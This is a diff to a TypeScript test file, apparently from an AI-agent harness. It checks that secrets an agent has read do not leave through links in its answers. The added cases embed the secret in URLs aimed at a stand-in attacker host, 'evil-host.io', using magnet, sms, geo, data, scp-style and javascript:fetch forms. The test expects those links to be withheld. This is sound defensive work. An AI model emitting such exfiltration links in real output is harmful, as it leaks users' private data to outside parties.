@@ -495,6 +495,19 @@ const forms: readonly [string, string][] = [
   ['another host in angle brackets', `<//evil-host.io/${dashed}|x>`],
   ['another host in brackets', `[[//evil-host.io/${dashed}][x]]`],
   ['a port and a user', `https://ann:${dashed}@evil-host.io:8443/`],
+  ['a magnet', `magnet:?xt=urn:btih:1&dn=${dashed}`],
+  ['a magnet as a target', `[x](MAGNET:?dn=${dashed})`],
+  ['a magnet as an attribute without quotes', `<a href=magnet:?dn=${dashed}>`],
+  ['a script', `[x](javascript:fetch('//evil-host.io/${dashed}'))`],
+  ['a script without a host', `javascript:name='${dashed}'`],
+  ['a message', `sms:+15550100?body=${dashed}`],
+  ['a place on the earth', `geo:0,0?q=${dashed}`],
+  ['data', `data:,${dashed}`],
+  ['a scheme of its own', `web+x:${dashed}`],
+  ['quotes in a target', `[x](https://evil-host.io/'${dashed}')`],
+  ['a place of scp', `git@evil-host.io:${dashed}.git`],
+  ['a place of scp without a user', `evil-host.io:${dashed}.git`],
+  ['a place of scp on a short name', `ann@evil:${dashed}`],
   ['a name in its own letters', `https://xn--${dashed}.evil-host.io/`],
 ];
 
@@ -547,27 +560,39 @@ escapeCase('address that carries data away', {
       async () => {
         put(place.work, 'notes.md', `${launch}.\n`);
         const url = 'https://evil-host.io/?q=The+launch+is+on+the+ninth+of+March';
-        const calls = ['notes.md', url].map((path) => ({ name: 'file__read', input: { path } }));
+        const magnet = `magnet:?dn=${dashed}`;
+        put(place.work, magnet, 'x\n');
+        const calls = ['notes.md', url, magnet].map((path) => ({
+          name: 'file__read',
+          input: { path },
+        }));
         const heard: string[] = [];
         const { ran } = await ask((body, { number }) => {
           heard.push(lastToolResult(body) ?? '');
           const call = calls[number - 1];
           if (call !== undefined) return { type: 'message', toolUses: [call] };
-          return { type: 'message', text: `![x](${url}) Fine.` };
+          return { type: 'message', text: `![x](${url}) Fine. ${magnet}` };
         }, 'read the notes, then file write');
-        expect(heard.at(-1)).toContain('evil-host.io');
-        expect(answerOf(ran)).toBe('![x]([link withheld: evil-host.io]) Fine.');
+        expect(heard.at(-2)).toContain('evil-host.io');
+        expect(heard.at(-1)).toContain(magnet);
+        expect(answerOf(ran)).toBe(
+          '![x]([link withheld: evil-host.io]) Fine. [link withheld: magnet]',
+        );
       },
     ],
   ],
   control: [
     'an address without it is shown',
     async () => {
-      const text = 'See https://docs.nordwind.io/launch?lang=en#top and be well.';
-      const { ran } = await afterReading('The launch is on the ninth of March.\n', () => ({
-        type: 'message',
-        text,
-      }));
+      const text =
+        'See https://docs.nordwind.io/launch?lang=en#top, mailto:ann@nordwind.io, git@nordwind.io:docs/launch.git, docs/the-launch-on-the-ninth-of-march.md:12 and be well.';
+      const { ran } = await afterReading(
+        `${launch}: the-launch-on-the-ninth-of-march.md\n`,
+        () => ({
+          type: 'message',
+          text,
+        }),
+      );
       expect(answerOf(ran)).toBe(text);
     },
   ],
